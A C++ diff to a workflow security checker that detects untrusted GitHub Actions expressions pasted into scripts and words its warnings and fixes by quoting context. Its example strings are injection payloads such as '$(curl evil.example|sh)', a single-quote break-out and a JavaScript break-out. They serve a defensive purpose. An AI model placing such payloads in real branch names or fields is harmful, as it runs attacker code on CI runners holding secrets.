@@ -148,37 +148,101 @@ Way way_of(const DeliveryCheck& check, const Read<Workflow>& workflow, const std
   return best;
 }
 
-std::string_view example_of(const Untrusted& text) {
-  return text.variable == "BRANCH" ? "$(curl${IFS}evil.example|sh)" : "$(curl evil.example|sh)";
+// Where in a script the text is pasted, which decides what gets out of it and how to read it there.
+enum class Place : std::uint8_t { Shell, SingleQuotes, OtherLanguage, JavaScript };
+
+// Whether `script` ends within single quotes; comments are passed over.
+bool ends_in_single_quotes(std::string_view script) {
+  char quote = 0;
+  for (std::size_t i = 0; i < script.size(); ++i) {
+    const char c = script[i];
+    const bool starts_word = i == 0 || script[i - 1] == ' ' || script[i - 1] == '\n';
+    if (c == '\\' && quote != '\'') {
+      ++i;
+    } else if (quote == 0 && c == '#' && starts_word) {
+      i = std::min(script.find('\n', i), script.size());
+    } else if (c == quote) {
+      quote = 0;
+    } else if (quote == 0 && (c == '\'' || c == '"')) {
+      quote = c;
+    }
+  }
+  return quote == '\'';
 }
 
-void word(Draft& draft, const Read<Workflow>& workflow, const Way& way) {
+// Whether a program of another language, or a document, has begun before: node -e "…", cat <<EOF.
+bool has_other_language(std::string_view script) {
+  constexpr std::array<std::string_view, 6> kPrograms = {"node -e", "python -c", "python3 -c",
+                                                         "<<",      "ruby -e",   "perl -e"};
+  return std::any_of(kPrograms.begin(), kPrograms.end(), [&](std::string_view one) {
+    const std::size_t at = script.rfind(one);
+    if (at == script.npos) return false;
+    const bool is_word = one == "<<" && at > 0 && script[at - 1] == '<';  // <<< "$text"
+    return !is_word;
+  });
+}
+
+Place place_in(const MappedText& script, Span expression, bool is_shell) {
+  if (!is_shell) return Place::JavaScript;
+  const std::string_view before = std::string_view(script.text()).substr(0, expression.begin);
+  if (has_other_language(before)) return Place::OtherLanguage;
+  return ends_in_single_quotes(before) ? Place::SingleQuotes : Place::Shell;
+}
+
+// Names of branches have no blanks and no `//`.
+std::string_view example_of(const Untrusted& text, Place place) {
+  const bool branch = text.variable == "BRANCH";
+  if (place == Place::JavaScript) return "'+process.exit()+'";
+  if (place == Place::SingleQuotes) {
+    return branch ? "';curl${IFS}evil.example|sh;'" : "';curl evil.example|sh;'";
+  }
+  return branch ? "$(curl${IFS}evil.example|sh)" : "$(curl evil.example|sh)";
+}
+
+void word(Draft& draft, const Read<Workflow>& workflow, const Way& way, Place place) {
   const Untrusted& text = *way.text;
+  const std::string_view example = example_of(text, place);
   if (way.kind == Way::Kind::Open) {
     if (!workflow.content.is_triggered_by(way.event)) draft.confidence(Confidence::Medium);
     draft.risk(
         "Expressions are replaced before the script starts: on `{}` a {} such as `{}` runs with "
         "the workflow's secrets and its token.",
-        {way.event, text.noun, example_of(text)});
+        {way.event, text.noun, example});
   } else if (way.kind == Way::Kind::Uncalled) {
     draft.severity(Severity::Suggestion).confidence(Confidence::Medium);
     draft.risk(
         "Nothing in this repository calls it; the first workflow that does on `{}` runs a {} such "
         "as `{}` with its secrets.",
-        {way.event, text.noun, example_of(text)});
+        {way.event, text.noun, example});
   } else if (way.event == "push") {
     draft.severity(Severity::Warning);
     draft.risk(
         "With a stranger's commit that is merged, a {} such as `{}` runs on the runner, with the "
         "secrets and the token of the push.",
-        {text.noun, example_of(text)});
+        {text.noun, example});
   } else {
     draft.severity(Severity::Warning);
     draft.risk(
         "A {} such as `{}` runs on the runner. For pull requests of forks it has no secrets and a "
         "token that only reads; a colleague's branch has both.",
-        {text.noun, example_of(text)});
+        {text.noun, example});
   }
+}
+
+void advise(Draft& draft, std::string_view variable, std::string_view expression, Place place) {
+  if (place == Place::OtherLanguage) {
+    draft.fix(
+        "Hand it over as data: `env: {{}: '${{ {} }}'}` in the step; the program within the script "
+        "reads `{}` from its environment.",
+        {variable, expression, variable});
+    return;
+  }
+  const bool shell = place != Place::JavaScript;
+  draft.fix(
+      "Hand it over as data: `env: {{}: '${{ {} }}'}` in the step, and `{}{}{}` in the "
+      "script{}.",
+      {variable, expression, shell ? "\"$" : "process.env.", variable, shell ? "\"" : "",
+       place == Place::SingleQuotes ? " instead of the single quotes" : ""});
 }
 
 void check_text(DeliveryCheck& check, const Read<Workflow>& workflow, const MappedText& text,
@@ -191,12 +255,9 @@ void check_text(DeliveryCheck& check, const Read<Workflow>& workflow, const Mapp
       Draft draft = check.report(*workflow.file, text.place(expression.span),
                                  "`{}`, which strangers write, is pasted into the {} as code",
                                  {expression.text, where});
-      word(draft, workflow, way);
-      const std::string_view variable = way.text->variable;
-      const bool shell = where.starts_with("shell");
-      draft.fix(
-          "Hand it over as data: `env: {{}: '${{ {} }}'}` in the step, and `{}{}{}` in the script.",
-          {variable, expression.text, shell ? "\"$" : "process.env.", variable, shell ? "\"" : ""});
+      const Place place = place_in(text, expression.span, where.starts_with("shell"));
+      word(draft, workflow, way, place);
+      advise(draft, way.text->variable, expression.text, place);
     }
   }
 }
